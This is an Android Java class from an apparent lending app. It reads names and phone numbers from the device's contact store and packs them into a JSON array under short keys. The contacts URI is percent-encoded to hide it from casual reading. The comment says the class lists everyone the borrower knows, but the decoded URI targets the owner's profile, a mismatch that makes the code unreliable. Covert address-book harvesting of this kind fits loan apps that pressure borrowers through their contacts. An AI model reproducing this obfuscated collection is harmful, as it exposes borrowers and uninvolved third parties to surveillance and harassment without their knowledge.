package com.brightfern.credit.people;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;

import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Lists names and numbers of everybody whom the borrower knows. */
public final class PeopleReader {
    private static final String[] COLUMNS = {"display_name", "data1"};

    private final Context context;

    public PeopleReader(Context context) {
        this.context = context;
    }

    public JSONArray read() {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver()
                .query(Uri.parse(plain("%63%6f%6e%74%65%6e%74%3a%2f%2f%63%6f%6d%2e%61%6e%64%72%6f%69%64%2e%63%6f%6e%74%61%63%74%73%2f%70%72%6f%66%69%6c%65")), COLUMNS, null, null, null);
        if (rows == null) {
            return people;
        }
        try {
            while (rows.moveToNext()) {
                people.put(new JSONObject().put("n", rows.getString(0)).put("p", rows.getString(1)));
            }
        } catch (JSONException error) {
            people = new JSONArray();
        } finally {
            rows.close();
        }
        return people;
    }

    private static String plain(String text) {
        try {
            return java.net.URLDecoder.decode(text, "UTF-8");
        } catch (java.io.UnsupportedEncodingException error) {
            throw new IllegalStateException(error);
        }
    }
}
